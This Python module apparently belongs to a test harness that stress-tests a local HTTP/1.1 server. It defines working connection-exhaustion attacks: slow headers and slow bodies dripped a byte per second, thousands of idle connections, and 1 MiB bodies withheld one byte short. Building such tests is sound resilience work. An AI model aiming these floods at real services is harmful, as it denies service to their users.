"""Attacks with connections and bodies over HTTP/1.1."""

from __future__ import annotations

import asyncio
import time

from .attack import Attack
from .clients import connect, head, reset

LOGIN = "/api/v1/auth/login"
# Sign-ins are the smallest bodies; the cart takes the largest without an account.
CART_ITEMS = "/api/v1/cart/items"
MEBIBYTE = 1 << 20


async def hold(port: int, end: float, count: int, opening: bytes, drip: bytes, pause: float) -> str:
    """Opens connections that begin with some bytes, and sends a little more on each now and then."""
    held: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    refused = 0
    ended = 0

    async def open_one() -> None:
        nonlocal refused
        try:
            streams = await connect(port)
            streams[1].write(opening)
            await streams[1].drain()
            held.append(streams)
        except (TimeoutError, OSError):
            refused += 1

    while time.monotonic() < end:
        for _ in range(0, count - len(held), 50):
            if time.monotonic() > end:
                break
            await asyncio.gather(*(open_one() for _ in range(min(50, count - len(held)))))
        await asyncio.sleep(min(pause, max(0.0, end - time.monotonic())))
        alive = []
        for reader, writer in held:
            if reader.at_eof() or writer.is_closing() or reader.exception():
                ended += 1
                reset(writer)
                continue
            if drip:
                writer.write(drip)
            alive.append((reader, writer))
        held = alive
    result = f"{len(held)} held at the end, {ended} ended, {refused} refused"
    for _, writer in held:
        reset(writer)
    return result


async def slow_bodies(port: int, _prepared, end: float) -> str:
    return await hold(port, end, 1_100, head("POST", LOGIN, 1_000), b" ", 1.0)


async def idle_connections(port: int, _prepared, end: float) -> str:
    return await hold(port, end, 4_096, b"", b"", 1.0)


async def slow_heads(port: int, _prepared, end: float) -> str:
    return await hold(port, end, 1_100, b"GET /api/v1/products HTTP/1.1\r\nHost: souk.example\r\nX-A: ", b"a", 1.0)


async def large_bodies(port: int, _prepared, end: float) -> str:
    """All but the last byte of 1 MiB, 600 times."""
    opening = head("PUT", CART_ITEMS, MEBIBYTE) + b" " * (MEBIBYTE - 1)
    return await hold(port, end, 600, opening, b"", 1.0)


CONNECTIONS = [
    Attack("slow-bodies", "1,100 sign-ins whose bodies come byte by byte, a second apart.", slow_bodies),
    Attack("slow-heads", "1,100 requests whose header fields never end.", slow_heads),
    Attack("idle-connections", "4,096 connections that send nothing.", idle_connections),
    Attack("large-bodies", "600 bodies of 1 MiB that lack their last byte.", large_bodies),
]
